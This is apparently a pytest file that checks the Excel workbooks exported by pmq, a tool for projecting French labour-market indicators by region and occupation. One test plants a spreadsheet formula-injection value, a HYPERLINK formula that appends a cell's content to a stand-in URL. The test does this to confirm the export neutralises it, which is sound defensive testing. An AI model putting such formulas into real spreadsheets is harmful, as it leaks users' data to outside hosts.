"""Excel for analysts (issue 20, item 3): headers in the reader's language with codes in columns of their own,
a sheet per indicator with the periods (years) as columns, the differences between scenarios, autofilter and
frozen panes on every table sheet, number formats, the key figures and the watch list in the report's
workbook — checked with openpyxl — and read_excel_tables giving the long tables back with the same numbers."""
from __future__ import annotations

import openpyxl
import pandas as pd
import pytest
from openpyxl.utils import get_column_letter

from pmq.analysis.imbalance import imbalance_table, watch_list
from pmq.cli import main
from pmq.export import read_excel_tables, standard_tables, to_excel
from pmq.export.report import key_figures
from pmq.export.tables import (PERSONS_DIFF_FORMAT, PERSONS_FORMAT, SHARE_DIFF_FORMAT, SHARE_FORMAT,
                               WIDE_INDICATORS)
from pmq.projection.compare import project_many
from pmq.projection.indicators import select

#: the CLI's workbooks, made by the background process from the start of the session (shared with
#: tests/test_export.py and tests/test_report.py, which run the same command lines)
XLSX = ["export", "reference", "bas_carbone_dares2023", "--horizon", "5", "--out", "{out}.xlsx"]
REPORT = ["report", "reference", "--territory", "Provence-Alpes-Côte d'Azur", "--out", "{out}"]
PMQ_BACKGROUND = {"export_xlsx": ("cli_xlsx", XLSX), "report_paca": ("report_paca", REPORT)}

FRENCH_SHEETS = ["README", "Chiffres clés", "Métiers à surveiller", "Régions", "Domaines", "Métiers",
                 "Écarts entre scénarios", "Emploi", "Créations nettes d'emploi", "Départs en fin de carrière",
                 "Postes à pourvoir", "Jeunes débutants", "Solde mobilités interrégionales",
                 "Déséquilibre potentiel", "Départs (%)", "Postes à pourvoir (%)",
                 "Déséquilibre potentiel (%)"]


def _cli(background, job, argv, tmp_path_factory):
    done = background.result(job)
    if done is None:                       # no background process: run it here
        out = tmp_path_factory.mktemp(job) / "out"
        assert main([a.replace("{out}", str(out)) for a in argv]) == 0
        return out
    code, _, err, out = done
    assert code == 0, err
    return out


@pytest.fixture(scope="module")
def cli_xlsx(background, tmp_path_factory):
    return type(_cli(background, "export_xlsx", XLSX, tmp_path_factory))(
        str(_cli(background, "export_xlsx", XLSX, tmp_path_factory)) + ".xlsx")


@pytest.fixture(scope="module")
def report_paca(background, tmp_path_factory):
    return _cli(background, "report_paca", REPORT, tmp_path_factory)


#: the métiers of the tables (a sample, for speed: the workbook's layout does not depend on how many)
METIERS = ["A0Z", "B4Z", "D1Z", "J3Z", "L2Z", "R4Z", "T1Z", "T2A", "V1Z", "W0Z"]


@pytest.fixture(scope="module")
def two(baseline):
    """Two scenarios over 6 years, the tables of ten métiers in Provence-Alpes-Côte d'Azur (every région in
    « regions »), the key figures of both periods and the watch list: what pmq report puts in tables.xlsx."""
    comp = project_many(["reference", "ademe_s3"], baseline, horizon=6, ages=False)
    acc = select(comp.accounts, metier=METIERS)
    tables = standard_tables(acc, [2022, 2025], territory="93")
    keys = [key_figures(comp, "93", 2022), key_figures(comp, "93", 2025)]
    watch = watch_list(imbalance_table(comp, end_year=2025), n=5)
    watch = watch[watch["territory"] == "93"]
    return acc, tables, keys, watch


@pytest.fixture(scope="module")
def workbook(two, tmp_path_factory):
    acc, tables, keys, watch = two
    path = to_excel(tables, tmp_path_factory.mktemp("xl") / "t.xlsx", accounts=acc, key_figures=keys, watch=watch)
    return path, openpyxl.load_workbook(path)


def _sheet(ws) -> pd.DataFrame:
    rows = list(ws.iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0])


def _check_table_sheets(wb) -> None:
    """Every sheet but README: bold header on row 1, frozen below it, an autofilter over the whole table."""
    for ws in wb.worksheets[1:]:
        last = f"{get_column_letter(ws.max_column)}{ws.max_row}"
        assert ws.auto_filter.ref == f"A1:{last}", ws.title
        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2") and ws.freeze_panes[0].isalpha()
        assert all(c.font.bold for c in ws[1]), ws.title


def test_french_workbook_sheets_headers_and_formats(workbook, two):
    path, wb = workbook
    acc, tables, keys, watch = two
    assert wb.sheetnames == FRENCH_SHEETS
    _check_table_sheets(wb)
    ws = wb["Régions"]
    head = [c.value for c in ws[1]]
    assert head[:7] == ["Période", "Code scénario", "Scénario", "Code territoire", "Territoire",
                        "Emploi en début de période", "Emploi en fin de période"]
    assert head[-1] == "Déséquilibre potentiel (% de l'emploi initial)"
    assert ws.freeze_panes == "F2"                        # the keys fit beside the numbers: frozen with the header
    row = {h: c for h, c in zip(head, ws[2])}
    assert row["Code territoire"].value == "11" and row["Territoire"].value == "Île-de-France"
    assert row["Postes à pourvoir"].number_format == PERSONS_FORMAT == "#,##0.0"
    assert row["Départs (% de l'emploi initial)"].number_format == SHARE_FORMAT == "0.0%"
    met = [c.value for c in wb["Métiers"][1]]
    assert {"Code métier (FAP)", "Métier", "Code domaine"} <= set(met)
    # the differences: each scenario minus the first, signed formats
    diff = _sheet(wb["Écarts entre scénarios"])
    titles = dict(zip(acc.scenario.values, acc["scenario_title_fr"].values))
    assert set(diff["Code scénario"]) == {"ademe_s3"} and set(diff["Scénario"]) == {titles["ademe_s3"]}
    assert set(diff["Comparé à"]) == {titles["reference"]}          # the first scenario, by its title
    m = tables["metiers"].set_index(["period", "scenario", "metier"])["openings"]
    r = diff.set_index(["Période", "Métier"] and ["Période", "Code métier (FAP)"]).loc[("2019–2025", "T2A")]
    assert r["Postes à pourvoir"] == pytest.approx(m[("2019–2025", "ademe_s3", "T2A")]
                                                  - m[("2019–2025", "reference", "T2A")], rel=1e-9, abs=1e-6)
    formats = {h: c.number_format for h, c in zip([c.value for c in wb["Écarts entre scénarios"][1]],
                                                  wb["Écarts entre scénarios"][2])}
    assert formats["Postes à pourvoir"] == PERSONS_DIFF_FORMAT and \
        formats["Déséquilibre potentiel (% de l'emploi initial)"] == SHARE_DIFF_FORMAT


def test_sheets_per_indicator_have_the_periods_as_columns(workbook, two):
    _, wb = workbook
    tables = two[1]
    met = tables["metiers"].set_index(["scenario", "metier", "period"])
    openings = _sheet(wb["Postes à pourvoir"])
    assert list(openings.columns) == ["Code scénario", "Scénario", "Code territoire", "Territoire", "Code domaine",
                                      "Code métier (FAP)", "Métier", "2019–2022", "2019–2025"]
    assert len(openings) == 2 * len(METIERS) and openings["Territoire"].eq("Provence-Alpes-Côte d'Azur").all()
    one = openings.set_index(["Code scénario", "Code métier (FAP)"])
    for s, m in [("reference", "T2A"), ("ademe_s3", "B4Z")]:
        for p in ("2019–2022", "2019–2025"):
            assert one.loc[(s, m), p] == pytest.approx(met.loc[(s, m, p), "openings"], rel=1e-12)
    # employment: the years as columns, 1 January of the start and of each end year
    emp = _sheet(wb["Emploi"]).set_index(["Code scénario", "Code métier (FAP)"])
    assert list(emp.columns[-3:]) == ["2019", "2022", "2025"]
    assert emp.loc[("reference", "T2A"), "2019"] == pytest.approx(met.loc[("reference", "T2A", "2019–2022"),
                                                                          "employment_start"], rel=1e-12)
    assert emp.loc[("reference", "T2A"), "2025"] == pytest.approx(met.loc[("reference", "T2A", "2019–2025"),
                                                                          "employment_end"], rel=1e-12)
    ws = wb["Déséquilibre potentiel (%)"]
    assert ws.cell(2, 8).number_format == SHARE_FORMAT and wb["Emploi"].cell(2, 8).number_format == PERSONS_FORMAT
    assert len([n for n in wb.sheetnames if n not in FRENCH_SHEETS[:7]]) == len(WIDE_INDICATORS)


def test_key_figures_and_watch_list_sheets(workbook, two):
    _, wb = workbook
    acc, _, keys, watch = two
    kf = _sheet(wb["Chiffres clés"])
    titles = dict(zip(acc.scenario.values, acc["scenario_title_fr"].values))
    assert list(kf.columns[:5]) == ["Période", "Code indicateur", "Indicateur", titles["reference"],
                                    titles["ademe_s3"]]
    assert kf.columns[5].startswith("Écart : ")
    row = kf.set_index(["Période", "Code indicateur"]).loc[("2019–2025", "openings")]
    assert row["Indicateur"] == "Postes à pourvoir"
    assert row[titles["reference"]] == pytest.approx(keys[1].at["openings", "reference"], rel=1e-12)
    assert row.iloc[3] == pytest.approx(keys[1].at["openings", "ademe_s3"] - keys[1].at["openings", "reference"])
    ws = wb["Chiffres clés"]
    formats = {r[1].value: (r[3].number_format, r[5].number_format) for r in ws.iter_rows(min_row=2)}
    assert formats["openings"] == (PERSONS_FORMAT, PERSONS_DIFF_FORMAT)
    assert formats["imbalance_rate"] == (SHARE_FORMAT, SHARE_DIFF_FORMAT)
    w = _sheet(wb["Métiers à surveiller"])
    assert len(w) == len(watch) > 0
    assert {"Rang", "Code métier (FAP)", "Métier", "Classe DARES", "Postes à pourvoir"} <= set(w.columns)
    assert w["Code métier (FAP)"].tolist() == watch["metier"].tolist()


def test_read_excel_tables_round_trip(workbook, two):
    path, _ = workbook
    tables = two[1]
    back = read_excel_tables(path)
    assert list(back) == ["regions", "domaines", "metiers"]            # the long tables, not the derived sheets
    for name, df in tables.items():
        pd.testing.assert_frame_equal(back[name], df, check_dtype=False, check_exact=False, rtol=1e-12)


def test_english_workbook(two, tmp_path):
    acc, tables, keys, watch = two
    en = standard_tables(acc, [2025], territory="93", lang="en")
    path = to_excel(en, tmp_path / "en.xlsx", accounts=acc, lang="en", key_figures=keys[1:], watch=watch)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames[:7] == ["README", "Key figures", "Occupations to watch", "Regions", "Domains", "Occupations",
                                 "Scenario differences"]
    assert {"Employment", "Job openings", "Potential imbalance (%)", "Net inflow from other regions"} <= \
        set(wb.sheetnames)
    _check_table_sheets(wb)
    assert [c.value for c in wb["Regions"][1]][:5] == ["Period", "Scenario code", "Scenario", "Territory code",
                                                       "Territory"]
    assert "Occupation code (FAP)" in [c.value for c in wb["Occupations"][1]]
    readme = [c.value for r in wb["README"].iter_rows() for c in r if c.value]
    assert "header" in readme and "en-tête" not in readme
    back = read_excel_tables(path)
    for name, df in en.items():
        pd.testing.assert_frame_equal(back[name], df, check_dtype=False, check_exact=False, rtol=1e-12)


def test_derived_sheets_are_neutralised_and_one_scenario_has_no_differences(two, tmp_path):
    acc, tables, _, _ = two
    bad = '=HYPERLINK("http://x?"&A1,"clic")'
    met = tables["metiers"][tables["metiers"]["scenario"] == "reference"].assign(metier_label=bad)
    path = to_excel({"metiers": met}, tmp_path / "m.xlsx")
    wb = openpyxl.load_workbook(path)
    assert "Écarts entre scénarios" not in wb.sheetnames and "Postes à pourvoir" in wb.sheetnames
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f" and not (isinstance(c.value, str) and c.value.startswith("=")), \
                    (ws.title, c.coordinate)
    assert set(_sheet(wb["Postes à pourvoir"])["Métier"]) == {"'" + bad}
    with pytest.raises(ValueError, match="noms de feuilles"):       # a table may not take a derived sheet's name
        to_excel({"Postes à pourvoir": met}, tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()


def test_workbook_of_an_earlier_pmq_reads_back(tmp_path):
    """Headers that are pmq's names and no table of columns in README: every sheet, codes as text."""
    path = tmp_path / "old.xlsx"
    with pd.ExcelWriter(path) as xw:
        pd.DataFrame([["pmq", "0.1"]]).to_excel(xw, sheet_name="README", index=False, header=False)
        pd.DataFrame({"territory": ["01", "93"], "openings": [1.5, 2.5]}).to_excel(xw, sheet_name="regions",
                                                                                     index=False)
    back = read_excel_tables(path)
    assert list(back) == ["regions"] and back["regions"]["territory"].tolist() == ["01", "93"]


def test_cli_workbooks_are_in_french(cli_xlsx, report_paca):
    """`pmq export … --out x.xlsx` and the report's tables.xlsx: French headers, the differences, the sheets per
    indicator; the report's key figures and watch list; numbers read back as the report prints them."""
    wb = openpyxl.load_workbook(cli_xlsx, read_only=True)
    assert "Écarts entre scénarios" in wb.sheetnames and "Postes à pourvoir" in wb.sheetnames
    assert next(wb["Régions"].iter_rows(max_row=1, values_only=True))[:5] == (
        "Période", "Code scénario", "Scénario", "Code territoire", "Territoire")
    wb.close()
    book = report_paca / "tables.xlsx"
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames[:3] == ["README", "Chiffres clés", "Métiers à surveiller"]
    assert "Écarts entre scénarios" not in wb.sheetnames            # one scenario
    _check_table_sheets(wb)
    kf = _sheet(wb["Chiffres clés"]).set_index("Code indicateur")
    assert round(kf.loc["openings"].iloc[-1] / 1e3, 1) == 636.1      # the report's « 636,1 k »
    assert len(_sheet(wb["Métiers à surveiller"])) == 10
    reg = _sheet(wb["Régions"]).set_index("Code territoire")        # (read_excel_tables: tests/test_report.py)
    assert round(reg.loc["93", "Postes à pourvoir"] / 1e3, 1) == 636.1
